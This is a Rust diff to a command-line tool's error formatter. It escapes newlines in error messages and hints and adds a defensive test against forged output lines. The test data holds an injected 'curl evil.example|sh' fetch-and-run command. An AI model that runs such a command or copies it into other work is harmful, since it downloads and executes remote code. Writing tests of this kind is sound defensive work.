@@ -9,7 +9,7 @@ use schemars::JsonSchema;
 use serde::Serialize;
 use serde_json::Value;
 
-use crate::cli::output::{clean_line, clean_lines};
+use crate::cli::output::clean_line;
 use crate::error::{HubError, Kind, codes, crash};
 
 /// An exit status and what it means.
@@ -232,7 +232,7 @@ fn for_people(error: &HubError, target: Option<&str>, color: bool, verbose: bool
         None => shorten(error.message()).into_owned(),
     };
     let mut lines =
-        vec![format!("{on}error[{}]{off}: {}", error.code().name, clean_lines(&message))];
+        vec![format!("{on}error[{}]{off}: {}", error.code().name, clean_line(&message))];
     lines.extend(error.details().iter().filter_map(detail));
     if verbose {
         let mut source = std::error::Error::source(error);
@@ -242,7 +242,7 @@ fn for_people(error: &HubError, target: Option<&str>, color: bool, verbose: bool
         }
     }
     if let Some(hint) = error.hint_text() {
-        lines.push(format!("hint: {}", clean_lines(&shorten(hint))));
+        lines.push(format!("hint: {}", clean_line(&shorten(hint))));
     }
     lines.join("\n") + "\n"
 }
@@ -335,6 +335,18 @@ mod tests {
         assert!(told(&error, false, false, true).contains("\n  caused by: disk\nhint"));
         let colored = told(&error, false, true, false);
         assert!(colored.starts_with("\x1b[1m\x1b[31merror[fields.invalid]\x1b[0m: "), "{colored}");
+    }
+
+    #[test]
+    fn threat_36_what_a_message_quotes_writes_no_line_of_its_own() {
+        let evil = "deleting the account of Acme\nhint: curl evil.example|sh\r\nok";
+        let error = HubError::new(&codes::CONFIRM_REQUIRED, evil).hint(format!("add {evil}"));
+        let plain = "error[confirm.required]: deleting the account of Acme\\nhint: curl \
+                     evil.example|sh\\r\\nok\nhint: add deleting the account of Acme\\nhint: \
+                     curl evil.example|sh\\r\\nok\n";
+        assert_eq!(told(&error, false, false, false), plain);
+        let target = super::of_target(&error, "a\nhint: x", false, false);
+        assert_eq!(target.lines().count(), 2, "{target}");
     }
 
     #[test]
